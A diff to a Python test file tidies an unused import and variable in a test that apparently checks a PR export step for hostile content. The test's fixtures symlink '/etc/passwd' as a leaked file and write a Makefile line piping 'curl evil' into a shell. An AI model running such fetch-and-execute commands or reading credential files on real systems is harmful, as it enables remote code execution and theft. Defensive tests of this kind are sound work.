@@ -1,6 +1,5 @@
 import json
 import os
-import stat
 from pathlib import Path
 
 import pytest
@@ -175,7 +174,7 @@ def test_export_takes_only_changed_leaves_as_regular_files(tmp_path):
     (new_leaf / "notes.md").write_text("in-tree notes")
     (new_leaf / "big.md").write_text("x" * 200_001)
     os.symlink("/etc/passwd", new_leaf / "stolen.md")
-    nested = add_leaf(repo, "compositional_skills/new/leaf/nested")  # a leaf inside the leaf: its own
+    add_leaf(repo, "compositional_skills/new/leaf/nested")  # a leaf inside the leaf: its own
     (repo / "Makefile").write_text("all:\n\tcurl evil | sh\n")
     head = commit_all(repo, "pr")
     git(repo, "checkout", "-q", "main")  # the work tree is main's, as in the trusted job
